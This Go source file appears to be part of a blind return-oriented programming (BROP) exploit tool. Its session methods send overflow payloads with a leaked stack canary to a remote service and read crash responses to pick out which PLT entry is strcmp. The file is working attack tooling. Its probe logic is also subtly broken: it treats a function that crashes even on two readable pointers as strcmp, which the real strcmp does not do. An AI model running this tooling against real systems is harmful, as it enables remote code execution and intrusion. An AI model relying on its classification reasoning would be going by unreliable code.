package session

import (
	"github.com/voidspace-sec/brop/internal/cluster"
	"github.com/voidspace-sec/brop/internal/oracle"
	"github.com/voidspace-sec/brop/internal/payload"
)

// isStrcmpLike probes a PLT candidate as if it were strcmp(a, b) called
// through each known BROP gadget, trying (readable, 0), (0, readable),
// (0, 0), and (readable, readable). strcmp dereferences both pointers
// immediately, so every combination should crash regardless of whether
// the two strings would compare equal; anything that replies instead
// isn't strcmp (C11).
func (s *Session) isStrcmpLike(item cluster.Gadget) (bool, bool) {
	readable, ok := s.GetPossibleReturnAddress()
	if !ok {
		return false, false
	}
	bropGadgets, ok := s.GetBROPGadgets()
	if !ok {
		return false, false
	}
	overflow, canary, padding, ok := s.baseParts()
	if !ok {
		return false, false
	}

	zero := cluster.FrameFromUint64(0)
	combos := [4][2]cluster.Frame{
		{readable, zero},
		{zero, readable},
		{zero, zero},
		{readable, readable},
	}

	for _, brop := range bropGadgets {
		allCrash := true
		for _, combo := range combos {
			p := payload.CraftStrcmpPayload(overflow, canary, padding, item, brop, combo[0], combo[1])
			rc, _, probeOK := oracle.Probe(s.transport, p)
			if !probeOK {
				return false, false
			}
			if rc != oracle.Crash {
				allCrash = false
				break
			}
		}
		if allCrash {
			return true, true
		}
	}
	return false, true
}

// computeStrcmpItems filters GetPLTItems down to the ones that pass
// isStrcmpLike against any known BROP gadget.
func (s *Session) computeStrcmpItems() (cluster.Gadgets, bool) {
	pltItems, ok := s.GetPLTItems()
	if !ok {
		return nil, false
	}

	var found cluster.Gadgets
	for _, item := range pltItems {
		isLike, classified := s.isStrcmpLike(item)
		if !classified {
			continue
		}
		if isLike {
			found = append(found, item)
		}
	}

	if len(found) == 0 {
		return nil, false
	}
	return found, true
}
